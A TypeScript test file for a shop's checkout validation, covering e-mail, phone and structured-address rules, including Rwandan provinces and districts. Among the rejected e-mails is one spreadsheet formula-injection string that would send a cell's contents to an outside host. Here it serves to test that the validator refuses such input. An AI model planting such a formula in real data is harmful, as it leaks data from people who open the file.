import { ADDRESS_MESSAGES } from '@sawa/shared/domain';
import { addressInput, EMPTY_CHECKOUT, validateCheckout } from './checkout-rules';

const filled = {
  ...EMPTY_CHECKOUT,
  name: 'Amani Keza',
  phone: '+250 788 555 000',
  countryCode: 'RW',
  region: 'Northern Province',
  city: 'Musanze',
  line1: 'NM 12 St',
};

describe('the checkout form applies the one e-mail rule', () => {
  it.each(['=HYPERLINK("https://x/?"&A2,"y")&"@a.b"', 'a@b.c', 'amani@example', 'amani example@org.rw'])('refuses %s before sending', (email) => {
    expect(validateCheckout({ ...filled, email }).email).toBe('Enter a valid e-mail address.');
  });

  it('accepts an ordinary address, spaces around it ignored', () => {
    expect(validateCheckout({ ...filled, email: ' amani@example.org ' })).toEqual({});
  });
});

describe('the structured address', () => {
  const ok = { ...filled, email: 'amani@example.org' };
  it('asks for the country, region, city and first line, each on its field', () => {
    expect(validateCheckout({ ...ok, countryCode: '' }).countryCode).toBe('Country is required.');
    expect(validateCheckout({ ...ok, countryCode: 'XX' }).countryCode).toBe(ADDRESS_MESSAGES.country);
    expect(validateCheckout({ ...ok, countryCode: 'KE', region: ' ', city: '', line1: '' })).toEqual({
      region: 'Region, state or province is required.',
      city: 'City or town is required.',
      line1: 'Address line 1 is required.',
    });
  });

  it("a Rwandan address names a province and one of its districts; another country's region is free", () => {
    expect(validateCheckout({ ...ok, region: 'Kigali' }).region).toBe(ADDRESS_MESSAGES.province);
    expect(validateCheckout({ ...ok, city: 'Huye' }).city).toBe(ADDRESS_MESSAGES.district('Northern Province'));
    expect(validateCheckout({ ...ok, countryCode: 'KE', region: 'Nairobi County', city: 'Nairobi' })).toEqual({});
  });

  it('pickup needs no address, and sends none', () => {
    const pickup = { ...ok, delivery: 'pickup' as const, countryCode: '', region: '', city: '', line1: '' };
    expect(validateCheckout(pickup)).toEqual({});
    expect(addressInput(pickup)).toBeNull();
  });

  it('sends blank optional parts as left out', () => {
    expect(addressInput({ ...ok, postcode: ' ', line2: '' })).toEqual({ countryCode: 'RW', region: 'Northern Province', city: 'Musanze', line1: 'NM 12 St' });
  });

  it('a phone with no digits or too many digits is refused before sending', () => {
    expect(validateCheckout({ ...ok, phone: '------' }).phone).toBe('Enter a valid phone number.');
    expect(validateCheckout({ ...ok, phone: '123456789012345678' }).phone).toBe('Enter a valid phone number.');
  });
});
